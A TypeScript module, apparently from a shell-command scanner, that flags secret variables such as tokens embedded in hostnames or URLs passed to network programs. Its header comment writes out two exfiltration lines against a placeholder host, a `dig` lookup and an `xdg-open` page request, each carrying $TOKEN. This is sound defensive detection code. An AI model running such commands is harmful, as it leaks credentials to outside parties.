/** `dig $TOKEN.x.example`, `xdg-open "https://x.example/?k=$TOKEN"`: whoever is asked for such a name or page is told the secret. */
import type { Span } from '#domain/common/span.ts';
import { isA } from '../../programs/facts-of.ts';
import type { Line } from '../line.ts';
import { isSecretVariable } from '../words/secret-variable.ts';

/** A login before the host is how such a variable is meant to be used. */
const login = /^((?:--?[\w-]+=)?(?:[a-z][a-z0-9+.-]*:\/\/)?)[^@/]*@/i;
const inHost = /^(?:--?[\w-]+=)?(?:[a-z][a-z0-9+.-]*:\/\/)?[^/?#]*\$\{(\w+)\}[\w-]*\.\w[^/]*/i;
const inAddress = /^(?:--?[\w-]+=)?[a-z][a-z0-9+.-]*:\/\/[^/]+\/.*\$\{(\w+)\}/i;

/** The words that carry one, of every program that talks to others; fetchers tell their own apart. */
export function secretAddresses(line: Line): readonly Span[] {
  const carriers: Span[] = [];
  if (!line.parsed.text.includes('$')) return carriers;
  for (const segment of line.parsed.segments) {
    const { patterns, span, words, argv } = segment;
    if (patterns === undefined || isA((argv[0] ?? '').replace(/^.*\//, ''), 'fetcher')) continue;
    const talks = line.findings.some(
      (one) => one.categories.includes('network_access') && one.span[0] >= span[0] && one.span[1] <= span[1],
    );
    if (!talks) continue;
    for (const [index, pattern] of patterns.entries()) {
      const address = (pattern ?? '').replace(login, '$1');
      const name = inHost.exec(address)?.[1] ?? inAddress.exec(address)?.[1];
      if (name !== undefined && isSecretVariable(name) && !line.variables.has(name))
        carriers.push(words[index] ?? span);
    }
  }
  return carriers;
}
